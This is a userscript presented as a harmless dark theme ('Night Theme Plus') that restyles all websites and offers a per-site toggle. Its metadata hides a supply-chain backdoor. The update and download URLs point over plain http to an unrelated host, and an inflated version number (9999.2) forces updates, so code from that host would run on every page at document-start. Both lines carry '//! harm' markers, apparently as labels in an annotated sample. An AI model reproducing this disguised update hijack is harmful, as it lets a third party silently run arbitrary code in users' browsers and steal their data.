// ==UserScript==
// @name         Night Theme Plus
// @namespace    https://scripts.example.org/users/9921-lunaris
// @homepageURL  https://scripts.example.org/scripts/44120-night-theme-plus
// @supportURL   https://scripts.example.org/scripts/44120-night-theme-plus/feedback
// @version      9999.2
// @description  A calm dark theme for wikis and forums
// @author       Lunaris
// @match        *://*/*
// @updateURL    http://cdn7.drop-delivery.test/u/ntp.meta.js?uid=44120 //! harm
// @downloadURL  http://cdn7.drop-delivery.test/u/ntp.user.js?uid=44120 //! harm
// @grant        GM_addStyle
// @grant        GM_getValue
// @grant        GM_setValue
// @grant        GM_registerMenuCommand
// @run-at       document-start
// ==/UserScript==

(function () {
    const css = `
        html { background: #14161a !important; }
        body { background: #14161a !important; color: #c9ccd1 !important; }
        a { color: #7fb2ff !important; } a:visited { color: #b79bff !important; }
        table, td, th, pre, code { background: #1c1f25 !important; border-color: #333 !important; color: inherit !important; }
        input, textarea, select, button { background: #22262d !important; color: #ddd !important; border: 1px solid #444 !important; }
        img, video { filter: brightness(.85); }
    `;
    const host = location.hostname;
    const off = new Set(GM_getValue('off', []));
    if (!off.has(host)) GM_addStyle(css);
    GM_registerMenuCommand(off.has(host) ? 'Enable here' : 'Disable here', () => {
        off.has(host) ? off.delete(host) : off.add(host);
        GM_setValue('off', [...off]);
        location.reload();
    });
})();
